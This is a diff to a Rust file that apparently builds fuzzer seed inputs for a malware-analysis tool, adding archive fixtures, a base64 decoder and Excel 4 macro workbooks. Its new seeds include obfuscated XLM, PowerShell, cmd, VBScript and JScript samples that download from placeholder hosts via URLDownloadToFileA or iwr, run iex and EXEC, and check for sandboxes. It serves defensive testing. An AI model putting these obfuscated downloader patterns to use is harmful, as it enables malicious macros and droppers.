@@ -1,10 +1,14 @@
 //! Where a fuzzer starts: small good files of every format, forged here.
 
-use crate::forge::zip::{Entry, Lock, NameIn};
-use crate::forge::{Chance, company, macros, pdf, zip};
+use crate::forge::archive::zip;
+use crate::forge::archive::zip::{Entry, Lock, NameIn};
+use crate::forge::carrier::pdf;
+use crate::forge::carrier::xlm;
+use crate::forge::document::Page;
+use crate::forge::{Chance, company, macros};
 use anyhow::{Result, ensure};
 use hinomi_formats::mail::MboxSplitter;
-use std::io::Write;
+use std::io::{Read, Write};
 
 /// A seed larger than this only slows the fuzzer down.
 const BYTES_MAX: usize = 24 << 10;
@@ -22,7 +26,9 @@ pub fn seeds() -> Result<Vec<Seed>> {
     let mut seeds = written();
     seeds.extend(mails()?);
     seeds.extend(documents()?);
+    seeds.extend(workbooks()?);
     seeds.extend(archives()?);
+    seeds.extend(stored()?);
     for packed in [false, true] {
         let lines = vec!["invoice".to_owned()];
         let acts = vec![
@@ -38,9 +44,71 @@ pub fn seeds() -> Result<Vec<Seed>> {
     Ok(seeds)
 }
 
+/// Files that the tests of the readers keep, made by other people's tools.
+fn stored() -> Result<Vec<Seed>> {
+    macro_rules! kept {
+        ($target:literal, $folder:literal, $($name:literal),*) => {
+            [$(($target, $name, include_str!(concat!("../../hinomi-formats/src/", $folder, "/fixtures/", $name, ".b64")))),*]
+        };
+    }
+    let seven = kept!(
+        "seven",
+        "archive",
+        "lzma2.7z",
+        "bcj2.7z",
+        "bzip2.7z",
+        "deflate.7z",
+        "delta.7z",
+        "arm64.7z",
+        "aes-header.7z"
+    );
+    let lzh = kept!("lzh", "archive", "stored.lzh", "level0-lh5.lzh", "level1-lh6.lzh", "level2-lh7.lzh");
+    let rar = kept!("rar", "archive", "v4.rar", "v5.rar", "v4-header.rar", "v5-header.rar");
+    let cab = kept!("cab", "archive", "stored.cab", "mszip.cab");
+    let discs = kept!("iso", "archive", "joliet.iso.gz", "rock.iso.gz");
+    let tapes = kept!("tar", "archive", "gnu.tar.gz", "pax.tar.gz", "ustar.tar.gz", "v7.tar.gz");
+    let locked =
+        kept!("pdf_locked", "pdf", "r2.pdf", "r4-aes.pdf", "r4-packed.pdf", "r6-packed.pdf", "user-r6.pdf");
+    let all = seven.iter().chain(&lzh).chain(&rar).chain(&cab).chain(&discs).chain(&tapes).chain(&locked);
+    all.map(|(target, name, base64)| {
+        let mut bytes = from_base64(base64);
+        if name.ends_with(".gz") {
+            let packed = std::mem::take(&mut bytes);
+            flate2::read::GzDecoder::new(packed.as_slice()).read_to_end(&mut bytes)?;
+        }
+        if *target == "iso" {
+            // The target puts the empty sectors before the descriptors back.
+            bytes.drain(..(16 << 11).min(bytes.len()));
+            bytes.truncate(BYTES_MAX);
+        }
+        Ok((*target, (*name).to_owned(), bytes))
+    })
+    .collect()
+}
+
+/// Undoes base64; line ends and padding are skipped.
+pub(crate) fn from_base64(text: &str) -> Vec<u8> {
+    let value = |letter: u8| match letter {
+        b'A'..=b'Z' => Some(letter - b'A'),
+        b'a'..=b'z' => Some(letter - b'a' + 26),
+        b'0'..=b'9' => Some(letter - b'0' + 52),
+        b'+' => Some(62),
+        b'/' => Some(63),
+        _ => None,
+    };
+    let values: Vec<u8> = text.bytes().filter_map(value).collect();
+    let group = |four: &[u8]| {
+        let bits = four.iter().fold(0_u32, |bits, value| bits << 6 | u32::from(*value));
+        let bytes = (bits << (6 * (4 - four.len()))).to_be_bytes();
+        bytes.into_iter().skip(1).take(four.len().saturating_sub(1)).collect::<Vec<u8>>()
+    };
+    values.chunks(4).flat_map(group).collect()
+}
+
 /// Seeds that are a few lines of text.
 fn written() -> Vec<Seed> {
-    let text: [(&'static str, &str, &[u8]); 17] = [
+    let text: [(&'static str, &str, &[u8]); 28] = [
+        ("calendar", "invitation", b"BEGIN:VCALENDAR\r\nBEGIN:VEVENT\r\nORGANIZER;CN=\"A; B\":mailto:a@b.example\r\nATTACH;ENCODING=BASE64;FILENAME=a.txt:aGVs\r\n bG8=\r\nX-ALT-DESC;FMTTYPE=text/html:<a href=\"http://a.example/\">x</a>\r\nSUMMARY;CHARSET=SHIFT_JIS;ENCODING=QUOTED-PRINTABLE:=90=BF=\r\n=8B=81\r\nDESCRIPTION;ALTREP=\"data:text/html;base64,YQ==\":a\\, b\\n\r\nEND:VEVENT\r\nEND:VCALENDAR\r\n"),
         ("text", "iso-2022-jp", b"ISO-2022-JP\n\x1b$B@A5a=q\x1b(B.doc"),
         ("text", "shift-jis", b"Shift_JIS\n\x90\xbf\x8b\x81\x8f\x91"),
         ("text", "euc-jp", b"x-euc-jp\n\xc0\xc1\xb5\xe1\xbd\xf1"),
@@ -56,8 +124,18 @@ fn written() -> Vec<Seed> {
         ("recipe", "base64", b"From_Base64('A-Za-z0-9+/=',true)Decode_text('UTF-16LE (1200)')\naAB0AHQAcAA="),
         ("recipe", "json", b"[{\"op\":\"From Hex\",\"args\":[\"Auto\"]},{\"op\":\"Gunzip\",\"args\":[]}]\n1f8b0800"),
         ("recipe", "xor", b"XOR({'option':'Hex','string':'2a'},'Standard',false)Find_/_Replace({'option':'Regex','string':'a+'},'b',true,false,true,false)\naaaa"),
+        ("script_xlm", "names", b"=SET.NAME(\"i\",1)\n=WHILE(i<4)\n=SET.NAME(\"s\",s&CHAR(CODE(MID(\"bne\",i,1))+1))\n=SET.NAME(\"i\",i+1)\n=NEXT()\n=EXEC(s&\" /c echo \"&R9C1)\n=IF(GET.WORKSPACE(19),HALT(),GOTO(A8))\n=CALL(\"urlmon\",\"URLDownloadToFileA\",\"JJCCBB\",0,\"http://a.example/x\",\"x\",0,0)\nhttp://b.example/y"),
+        ("script_xlm", "written", b"=FORMULA(\"=EXEC(\"\"cmd /c \"&\"echo\"\")\",R[3]C)\n=SET.VALUE(B1:C2,{1,2;3,4})\n=FOR.CELL(\"c\",B1:C2,TRUE)\n\n=SUBSTITUTE(REPT(\"ab\",9),\"a\",c)\n=NEXT()\n=RETURN()"),
         ("script_text", "wsh", b"Set s = CreateObject(\"WScript.\" & \"Shell\")\ns.Run \"cmd /c echo http://a.example/x\", 0\n"),
         ("script_text", "powershell", b"$w=New-Object Net.WebClient;foreach($u in 'http://a.example/x','http://b.example/y'){try{$w.DownloadFile($u,'t.tmp')}catch{}}"),
+        ("powershell", "joined", b"$u='hXtp'.Replace('X','t')+'://a.example/'+(('b','c')-join'');iwr $u -OutFile \"$env:TEMP\\x.txt\";&($PSHOME[4]+$PSHOME[34]+'X') 'echo 1'"),
+        ("powershell", "loop", b"function d($t,$k){$o='';for($i=0;$i -lt $t.Length;$i+=2){$o+=[char]([Convert]::ToInt32($t.Substring($i,2),16) -bxor $k)};return $o}\niex (d '01020304' 0x42)\n'{1}{0}'-f 'b','a'|%{$_.ToUpper()}"),
+        ("cmd", "variables", b"@echo off\r\nsetlocal enabledelayedexpansion\r\nset a=cu&set b=rl\r\nfor %%i in (h t) do set c=!c!%%i\r\ncall %a%%b% !c!tp://a.example/%a:~0,1%\r\nif exist x.txt (start x.txt) else (del x.txt)\r\n"),
+        ("cmd", "nested", b"cmd /v:on /c \"set x=abc&&for /l %i in (2,-1,0) do set y=!y!!x:~%i,1!&&if %i==0 echo !y!|cmd\"\r\nfor /f \"tokens=4 delims=s\\\" %a in ('set^|findstr PSM') do %a -v\r\n"),
+        ("vbs", "loop", b"On Error Resume Next\na = Array(104, 105)\nFor i = 0 To UBound(a) : s = s & Chr(a(i) Xor 0) : Next\nExecute \"x = StrReverse(Join(Split(s, \"\"\"\"), \"\"\"\"))\"\nWith CreateObject(\"WScript.Shell\")\n.Run \"cmd /c echo \" & x, 0\nEnd With\n"),
+        ("vbs", "procedure", b"Class A\nPublic Function f(ByVal t)\nDo While Len(t) > 0\nf = f & Left(t, 1) : t = Mid(t, 2)\nLoop\nEnd Function\nEnd Class\nSet o = New A\nSelect Case Len(o.f(\"ab\"))\nCase 2 : MsgBox o.f(\"cd\")\nCase Else\nEnd Select\n"),
+        ("jscript", "loop", b"var a=[104,105],s='';for(var i=0;i<a.length;i++){s+=String.fromCharCode(a[i]^0)}eval('var x='+'\"'+s.split('').reverse().join('')+'\"');new ActiveXObject('WScript.Shell').Run('cmd /c echo '+x,0);"),
+        ("jscript", "functions", b"(function(f,g){try{return f.apply(this,[g.replace(/(a)/g,function(m){return m+'b'})])}catch(e){throw e}finally{}})(function(t){return unescape(t)},'%61a');var o={k:`t${1}`,m:(x)=>x+1};for(var k in o){delete o[k]}"),
     ];
     text.into_iter().map(|(target, name, bytes)| (target, name.to_owned(), bytes.to_vec())).collect()
 }
@@ -104,6 +182,21 @@ fn documents() -> Result<Vec<Seed>> {
         let source: Vec<String> = truth.modules.into_iter().map(|module| module.code).collect();
         seeds.push(("script_vba", name.clone(), source.join("\n'---\n").into_bytes()));
         seeds.extend(truth.command.map(|line| ("command", name, line.into_bytes())));
+    }
+    Ok(seeds)
+}
+
+/// Workbooks with Excel 4 macros, one a container, each with another way to hide.
+fn workbooks() -> Result<Vec<Seed>> {
+    let mut chance = Chance::new(1);
+    let mut seeds = Vec::new();
+    let styles = [xlm::Style::XlmPlain, xlm::Style::XlmCells, xlm::Style::XlmSelfModifying];
+    for (container, style) in xlm::Container::ALL.into_iter().zip(styles) {
+        let page = Page { lines: vec!["invoice".to_owned()] };
+        let forged = xlm::attack(style, xlm::Shown::Very, page, &mut chance);
+        let bytes = forged.workbook.write(container, &mut chance)?;
+        let name = format!("macros.{}", container.extension());
+        seeds.extend(["workbook", "office"].map(|target| (target, name.clone(), bytes.clone())));
     }
     Ok(seeds)
 }
